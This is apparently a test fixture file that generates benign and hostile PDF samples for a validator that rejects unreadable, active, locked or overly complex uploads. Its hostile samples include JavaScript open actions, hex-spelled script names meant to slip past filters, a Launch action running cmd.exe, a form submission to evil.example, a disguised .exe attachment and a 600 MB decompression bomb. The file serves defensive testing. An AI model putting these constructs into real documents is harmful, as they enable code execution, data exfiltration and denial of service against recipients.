import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

/** Returns a one-page document written by hand; `catalog` and `objects` add what a test is about. */
export function handWritten({ catalog = '', objects = '', page = '' } = {}): Buffer {
  return Buffer.from(
    '%PDF-1.4\n' +
      `1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n` +
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200] ${page}>>endobj\n` +
      `${objects}\ntrailer<</Size 9/Root 1 0 R>>\n%%EOF\n`,
    'latin1',
  );
}

async function aDocument(
  change?: (document: PDFDocument) => unknown,
  useObjectStreams = true,
): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([300, 200]).drawText('Payment 402 800 CNY');
  await change?.(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

const withScript = (document: PDFDocument): void => document.addJavaScript('open', 'app.alert(1)');

async function locked(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' });
  return Buffer.from(await document.save());
}

/** Returns an object stream of a few hundred kilobytes that unpacks to `megabytes`. */
function bomb(megabytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(megabytes * 1_048_576, ' '), { level: 9 });
  const head = `4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
  const objects = Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream endobj')]);
  return handWritten({ objects: objects.toString('latin1') });
}

/** A page tree that contains itself. */
const circle = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n' +
    'trailer<</Size 3/Root 1 0 R>>\n%%EOF\n',
);

type Files = Readonly<Record<string, () => Buffer | Promise<Buffer>>>;

export const goodPdfs: Files = {
  'written by a library, packed': () => aDocument(),
  'written by a library, unpacked': () => aDocument(undefined, false),
  'written by hand, without a table': () => handWritten(),
  'with a link and a title': () => aDocument((document) => document.setTitle('Платёжное поручение № 1')),
  'that opens at a page': () => handWritten({ catalog: '/OpenAction[3 0 R/Fit]' }),
  'with a link to a site': () =>
    handWritten({
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://bank.example)>>>>]',
    }),
  'saved twice': async () =>
    Buffer.concat([await aDocument(undefined, false), handWritten().subarray('%PDF-1.4\n'.length)]),
  'with blanks behind it': () => Buffer.concat([handWritten(), Buffer.from('\r\n\0\0\n')]),
};

/** Documents by the name of the error that they are refused with. */
export const badPdfs: Readonly<Record<'pdfUnreadable' | 'pdfActive' | 'pdfLocked' | 'tooComplex', Files>> = {
  pdfUnreadable: {
    'a script behind the first line': () => Buffer.from('%PDF-1.4\n<script>alert(1)</script>'),
    'a script between the first line and the last': () =>
      Buffer.from('%PDF-1.4\n<script>alert(1)</script>\n%%EOF'),
    'nothing but the first bytes': () => Buffer.from('%PDF-'),
    'a catalogue without pages': () =>
      Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
    'a page tree without leaves': () =>
      Buffer.from(
        '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n' +
          'trailer<</Root 1 0 R>>\n%%EOF',
      ),
    'a page tree that contains itself': () => circle,
    'the first half': async () => {
      const whole = await aDocument();
      return whole.subarray(0, whole.length / 2);
    },
    'all but the end': () => handWritten().subarray(0, -8),
    'an archive behind the end': () =>
      Buffer.concat([handWritten(), Buffer.from('PK\x03\x04' + 'x'.repeat(100))]),
    'a page behind the end': () => Buffer.concat([handWritten(), Buffer.from('<script>alert(1)</script>')]),
  },
  pdfActive: {
    'a script, packed': () => aDocument(withScript),
    'a script, unpacked': () => aDocument(withScript, false),
    'a script when it is opened': () =>
      handWritten({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert)>>' }),
    'a script whose name is spelled in hexadecimal': () =>
      handWritten({ catalog: '/OpenAction<</S/#4Aava#53cript/#4AS(app.alert)>>' }),
    'a script in an older definition of an object': () =>
      handWritten({
        objects: '4 0 obj<</S/#4Aava#53cript/#4AS(app.alert)>>endobj\n4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj',
      }),
    'a script in a comment': () => handWritten({ objects: '% 4 0 obj<</S/JavaScript>>endobj' }),
    'a program that is started': () => handWritten({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
    'a form that is sent': () =>
      handWritten({ catalog: '/OpenAction<</S/SubmitForm/F(https://evil.example)>>' }),
    'an attached file': () =>
      aDocument((document) => document.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'text/plain' })),
    'a form with scripts': () => handWritten({ catalog: '/AcroForm<</Fields[]/XFA(x)>>' }),
    'a script that runs on a page': () =>
      aDocument((document) => {
        const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
        document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: action }));
      }),
  },
  pdfLocked: { 'a password': locked },
  tooComplex: { 'an object that unpacks to 600 MB': () => bomb(600) },
};
